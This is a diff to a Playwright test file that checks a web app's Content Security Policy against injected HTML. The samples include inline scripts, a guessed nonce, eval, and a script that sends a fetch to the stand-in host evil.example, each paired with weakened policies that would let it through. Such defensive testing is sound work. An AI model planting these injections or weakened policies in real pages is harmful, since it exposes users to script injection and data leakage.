@@ -1,14 +1,17 @@
 import type { Page } from 'playwright/test';
 import { appUrl } from '../support/addresses';
 import { expect, test } from '../support/fixtures';
+import { scriptHash, withOwnScript } from '../support/script-hash';
 
 const foreign = 'https://evil.example';
 const guess = 'AAAAAAAAAAAAAAAAAAAAAA==';
 
 interface Injection {
   name: string;
-  /** What somebody got into the page; NONCE stands for the page's own. */
+  /** What somebody got into the page. */
   html: string;
+  /** The text of a script in it that does what somebody wants although it is one of ours. */
+  ours?: string;
   /** The rule that stops it. */
   directive: string;
   /** The rule as a weaker policy would have it. */
@@ -19,6 +22,9 @@ interface Injection {
   succeeded?: () => boolean;
 }
 
+const evalScript = 'try { eval("window.ran = true") } catch {}';
+const tellScript = `fetch("${foreign}/tell", { mode: "no-cors" }).catch(() => {})`;
+
 const injections: Injection[] = [
   {
     name: 'an inline script',
@@ -27,7 +33,7 @@ const injections: Injection[] = [
     weaker: "script-src 'self' 'unsafe-inline'",
   },
   {
-    name: 'a script with a guessed nonce',
+    name: 'a script with a nonce',
     html: `<script nonce="${guess}">window.ran = true</script>`,
     directive: 'script-src-elem',
     weaker: `script-src 'nonce-${guess}' 'strict-dynamic'`,
@@ -65,9 +71,10 @@ const injections: Injection[] = [
   },
   {
     name: 'text that our own script takes for code',
-    html: '<script nonce="NONCE">try { eval("window.ran = true") } catch {}</script>',
+    html: `<script>${evalScript}</script>`,
+    ours: evalScript,
     directive: 'script-src',
-    weaker: "script-src 'nonce-NONCE' 'strict-dynamic' 'unsafe-eval'",
+    weaker: `script-src '${scriptHash(evalScript)}' 'strict-dynamic' 'unsafe-eval'`,
   },
   {
     name: 'a style that reads the page',
@@ -109,7 +116,8 @@ const injections: Injection[] = [
   },
   {
     name: 'a message of a script to a foreign host',
-    html: `<script nonce="NONCE">fetch("${foreign}/tell", { mode: "no-cors" }).catch(() => {})</script>`,
+    html: `<script>${tellScript}</script>`,
+    ours: tellScript,
     directive: 'connect-src',
     weaker: 'connect-src *',
   },
@@ -134,7 +142,7 @@ function weakened(policy: string, weaker: string): string {
  */
 async function openInjected(
   page: Page,
-  { html, click, succeeded }: Injection,
+  { html, ours, click, succeeded }: Injection,
   weaker: string | undefined,
 ): Promise<() => Promise<{ violated: string[]; hadItsWay: boolean }>> {
   const heard: string[] = [];
@@ -152,13 +160,12 @@ async function openInjected(
   await page.route(`${appUrl}/about`, async (route) => {
     const response = await route.fetch();
     const headers = response.headers();
-    const policy = headers['content-security-policy'] ?? '';
-    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';
-    const withNonce = (text: string) => text.replaceAll('NONCE', nonce);
+    const sent = headers['content-security-policy'] ?? '';
+    const policy = ours === undefined ? sent : withOwnScript(sent, ours);
     const body = (await response.text())
       .replace(/<script\b[\s\S]*?<\/script>/g, '')
-      .replace('</main>', `${withNonce(html)}</main>`);
-    const used = weaker === undefined ? policy : weakened(policy, withNonce(weaker));
+      .replace('</main>', `${html}</main>`);
+    const used = weaker === undefined ? policy : weakened(policy, weaker);
     await route.fulfill({
       response,
       headers: { ...headers, 'content-security-policy': used },
